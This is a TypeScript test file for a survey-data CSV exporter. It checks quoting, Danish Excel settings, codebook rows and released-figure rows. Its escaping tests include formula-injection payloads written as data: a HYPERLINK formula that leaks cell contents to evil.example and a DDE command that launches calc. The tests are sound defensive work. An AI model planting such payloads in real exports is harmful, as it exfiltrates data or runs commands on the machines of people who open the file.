import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import type { CsvValue } from './csv.ts';
import { CODEBOOK_COLUMNS, RELEASED_COLUMNS, codebook, neutralise, releasedRows, spreadsheetCsv, toCsv, type ReleasedFigures } from './csv.ts';
import { COLLEAGUE, PEER_PRACTICE } from './defaults.ts';

/** A strict RFC 4180 reader, to check what a spreadsheet would get back. */
function parseCsv(text: string, delimiter = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === delimiter) {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
      continue;
    } else if (c === '\r' || c === '\n' || c === '"') throw new Error(`bare ${JSON.stringify(c)} at ${i}`);
    else field += c;
    i++;
  }
  if (field !== '' || row.length > 0) throw new Error('last line has no CRLF');
  return rows;
}

describe('toCsv', () => {
  it('writes a header and rows with CRLF line ends', () => {
    const csv = toCsv(
      [
        { site: 'Aarhus', n: 12 },
        { site: 'Næstved', n: null },
      ],
      ['site', { key: 'n', header: 'antal' }],
    );
    expect(csv).toBe('site,antal\r\nAarhus,12\r\nNæstved,\r\n');
  });

  it('puts a byte order mark first when asked, for Excel', () => {
    expect(toCsv([], ['a'], { bom: true })).toBe('\ufeffa\r\n');
    expect(toCsv([], ['a']).charCodeAt(0)).toBe('a'.charCodeAt(0));
  });

  it('can use semicolons for a Danish Excel, quoting cells that hold one', () => {
    expect(toCsv([{ a: 'x;y', b: 'x,y', c: 2.5 }], ['a', 'b', 'c'], { delimiter: ';' })).toBe('a;b;c\r\n"x;y";x,y;2.5\r\n');
    // For Excel set to Danish: semicolons and decimal commas, which then need no quotes.
    expect(toCsv([{ a: 'x;y', c: 2.5, n: -3, w: 12 }], ['a', 'c', 'n', 'w'], spreadsheetCsv('da'))).toBe('\ufeffa;c;n;w\r\n"x;y";2,5;-3;12\r\n');
    expect(toCsv([{ c: 2.5 }], ['c'], spreadsheetCsv('en'))).toBe('\ufeffc\r\n2.5\r\n');
    expect(() => toCsv([{ c: 2.5 }], ['c'], { decimal: ',' })).toThrow(RangeError);
  });

  const cases: { name: string; value: CsvValue; cell: string }[] = [
    { name: 'plain Danish text', value: 'Rød grød med fløde — Æble', cell: 'Rød grød med fløde — Æble' },
    { name: 'a comma', value: 'hjem, arbejde', cell: '"hjem, arbejde"' },
    { name: 'quotes', value: 'han sagde "nej"', cell: '"han sagde ""nej"""' },
    { name: 'a line break', value: 'linje 1\nlinje 2', cell: '"linje 1\nlinje 2"' },
    { name: 'a CRLF inside', value: 'a\r\nb', cell: '"a\r\nb"' },
    { name: 'a formula link', value: '=HYPERLINK("http://evil.example/?"&A1,"Klik")', cell: `"'=HYPERLINK(""http://evil.example/?""&A1,""Klik"")"` },
    { name: 'a command via DDE', value: "+cmd|' /C calc'!A0", cell: "'+cmd|' /C calc'!A0" },
    { name: 'an at-sign function', value: '@SUM(1)', cell: "'@SUM(1)" },
    { name: 'a leading minus in text', value: '-2+3', cell: "'-2+3" },
    { name: 'a leading tab', value: '\t=1', cell: "'\t=1" },
    { name: 'a leading carriage return', value: '\r=1', cell: `"'\r=1"` },
    { name: 'spaces before an equals sign', value: '  =1+1', cell: "'  =1+1" },
    { name: 'a full-width equals sign', value: '＝1+1', cell: "'＝1+1" },
    { name: 'a sign later in the text', value: 'a=b', cell: 'a=b' },
    { name: 'a negative number as a number', value: -3, cell: '-3' },
    { name: 'a decimal number', value: 4.25, cell: '4.25' },
    { name: 'the text "-3" typed by a person', value: '-3', cell: "'-3" },
    { name: 'nothing', value: null, cell: '' },
    { name: 'an empty text', value: '', cell: '' },
  ];
  it.each(cases)('writes $name safely', ({ value, cell }) => {
    expect(toCsv([{ v: value }], ['v'])).toBe(`v\r\n${cell}\r\n`);
  });

  it('refuses numbers a spreadsheet cannot hold', () => {
    expect(() => toCsv([{ v: Number.NaN }], ['v'])).toThrow(RangeError);
    expect(() => toCsv([{ v: Number.POSITIVE_INFINITY }], ['v'])).toThrow(RangeError);
  });

  it('neutralises headers too', () => {
    expect(toCsv([], [{ key: 'x', header: '=1' }])).toBe("'=1\r\n");
  });

  it('reads back as the same cells, and no text cell starts a formula (property)', () => {
    const cell = fc.oneof(
      fc.string({ unit: fc.constantFrom('a', 'ø', ',', ';', '"', '\r', '\n', '\t', '=', '+', '-', '@', ' ', '1'), maxLength: 8 }),
      fc.integer({ min: -1000, max: 1000 }),
      fc.constant(null),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 5 }),
        fc.constantFrom(',' as const, ';' as const),
        (grid, delimiter) => {
          const rows = grid.map(([a, b, c]) => ({ a: a ?? null, b: b ?? null, c: c ?? null }));
          const parsed = parseCsv(toCsv(rows, ['a', 'b', 'c'], { delimiter }), delimiter);
          expect(parsed[0]).toEqual(['a', 'b', 'c']);
          parsed.slice(1).forEach((line, i) => {
            const row = grid[i]!;
            line.forEach((got, j) => {
              const v = row[j];
              const want = v === null || v === undefined ? '' : typeof v === 'number' ? String(v) : neutralise(v);
              expect(got).toBe(want);
              if (typeof v === 'string') expect(/^[=+\-@\t\r\n]/.test(got)).toBe(false);
            });
          });
        },
      ),
    );
  });
});

describe('codebook', () => {
  const rows = codebook(COLLEAGUE);

  it('has one row per option for choice items and one per other item', () => {
    const perItem = Object.fromEntries(COLLEAGUE.items.map((i) => [i.key, rows.filter((r) => r.item === i.key).length]));
    expect(perItem).toEqual({
      collaborationWithPeer: 6,
      collaborationWithCitizens: 6,
      citizensOwnWords: 5,
      roleClear: 5,
      metWithStatement: 2,
      statementHelped: 5,
      comment: 1,
    });
  });

  it('describes options with value, labels and score, and show-if rules in words', () => {
    expect(rows.find((r) => r.item === 'collaborationWithPeer' && r.option_value === 'dont-know')).toMatchObject({
      questionnaire: 'colleague',
      version: 1,
      type: 'singleChoice',
      required: 'yes',
      option_da: 'Ved ikke',
      option_en: "Don't know",
      option_score: null,
    });
    expect(rows.find((r) => r.item === 'roleClear' && r.option_value === '5')).toMatchObject({ option_score: 5 });
    expect(rows.find((r) => r.item === 'statementHelped')?.show_if).toBe('metWithStatement = true');
    expect(rows.find((r) => r.item === 'comment')).toMatchObject({ type: 'freeText', required: 'no', max_length: 1500 });
  });

  it('gives ranges for numbers and sliders', () => {
    const peer = codebook(PEER_PRACTICE);
    expect(peer.find((r) => r.item === 'meetingsLastMonth')).toMatchObject({ min: 0, max: 500, integer: 'yes', step: null });
    expect(peer.filter((r) => r.item === 'secureInRole').map((r) => [r.option_value, r.option_en, r.step])).toEqual([
      ['0', 'Not secure at all', 1],
      ['10', 'Completely secure', 1],
    ]);
  });

  it('exports as CSV with all its columns', () => {
    const csv = toCsv(rows, CODEBOOK_COLUMNS);
    const lines = parseCsv(csv);
    expect(lines[0]).toEqual([...CODEBOOK_COLUMNS]);
    expect(lines).toHaveLength(rows.length + 1);
  });
});

describe('releasedRows', () => {
  const figures = (site: string | null): ReleasedFigures => ({
    release: 2,
    releasedOn: '2026-03-02',
    questionnaire: COLLEAGUE,
    siteName: site,
    item: {
      key: 'metWithStatement',
      type: 'yesNo',
      text: { da: 'x', en: 'x' },
      respondents: { kind: 'value', value: 12 },
      options: [
        { value: 'yes', label: { da: 'Ja', en: 'Yes' }, count: { kind: 'suppressed' }, percent: null },
        { value: 'no', label: { da: 'Nej', en: 'No' }, count: { kind: 'suppressed' }, percent: null },
      ],
      mean: null,
    },
  });

  it('writes the item row, then one row per option, a hidden count as an empty cell marked hidden', () => {
    const rows = releasedRows([figures(null), figures('=Stedet')]);
    expect(rows).toHaveLength(6);
    expect(rows[0]).toMatchObject({ release: 2, site: 'all', item: 'metWithStatement', option: null, count: 12, hidden: null });
    expect(rows[1]).toMatchObject({ option: 'yes', count: null, hidden: 'yes' });
    const csv = toCsv(rows, RELEASED_COLUMNS, { bom: true, delimiter: ';' });
    expect(csv.startsWith('\uFEFFrelease;released_on;questionnaire;')).toBe(true);
    expect(csv).toContain("2;2026-03-02;colleague;1;'=Stedet;metWithStatement;yes;;yes;;\r\n");
  });
});
